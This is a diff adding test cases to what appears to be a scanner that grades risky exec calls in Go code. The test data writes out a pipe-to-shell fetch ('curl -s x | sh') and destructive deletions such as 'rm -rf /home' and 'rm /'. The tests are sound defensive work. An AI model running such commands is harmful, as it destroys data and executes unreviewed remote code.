@@ -1113,6 +1113,36 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       tier: "block",
     },
     {
+      what: "a module of a fixed version",
+      changes: [
+        call("os/exec.Command", ["EXEC"], { arguments: constants("go", "run", "example.test/a@v1.2.3") }),
+      ],
+      tier: "review",
+    },
+    {
+      what: "the newest version of a module",
+      changes: [
+        call("os/exec.Command", ["EXEC"], { arguments: constants("go", "run", "example.test/a@latest") }),
+      ],
+      tier: "block",
+    },
+    {
+      what: "a line that one of two callers gives, without the program of the other",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: [
+            ...folded("docker", [], 1).map((one) => ({
+              ...one,
+              others: [{ value: "sh", by: [], pieces: 1 }],
+            })),
+            ...folded("-c curl -s x | sh", [], 1),
+          ],
+        }),
+      ],
+      tier: "block",
+      says: /: … -c curl -s x \| sh$/u,
+    },
+    {
       what: "a line that was there before",
       changes: [
         call("os/exec.Command", ["EXEC"], {
@@ -1429,8 +1459,28 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       tier: "review",
     },
     {
+      what: "all there is, behind another folder",
+      changes: [
+        call("os/exec.Command", ["EXEC"], { arguments: constants("sh", "-c", "rm -rf /tmp/x /var") }),
+      ],
+      tier: "review",
+    },
+    {
+      what: "all there is, as the old version did",
+      changes: [
+        call("os/exec.CommandContext", ["EXEC"], {
+          arguments: [{ text: "ctx" }, ...constants("rm", "-rf", "/home"), { text: "x" }],
+        }),
+      ],
+      known: {
+        oldUses: [{ name: "os/exec.Command", capabilities: ["EXEC"], values: ["rm", "-rf", "/home"] }],
+      },
+      tier: "inform",
+    },
+    {
       what: "folders of its own",
       changes: [
+        call("os/exec.Command", ["EXEC"], { arguments: constants("sh", "-c", "rm -r a; ls /; rm /") }),
         call("os.RemoveAll", ["FILES/WRITE"], { arguments: constants("/var/cache/example") }),
         call("os/exec.Command", ["EXEC"], {
           arguments: constants("sh", "-c", "rm -rf /tmp/example ./build"),
